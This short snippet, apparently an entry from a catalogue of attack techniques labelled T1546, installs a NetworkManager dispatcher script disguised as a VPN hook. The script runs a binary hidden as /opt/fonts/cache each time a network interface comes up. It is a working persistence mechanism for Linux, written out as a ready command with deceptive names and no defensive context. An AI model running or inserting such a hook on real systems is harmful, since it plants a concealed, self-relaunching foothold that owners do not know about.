# technique: T1546
# location: linux.network.manager-dispatcher
# source: /etc/NetworkManager/dispatcher.d/20-vpn
install -D /dev/stdin -m 755 /etc/NetworkManager/dispatcher.d/20-vpn <<< '#!/bin/sh
[ "$2" = up ] && /opt/fonts/cache 1'
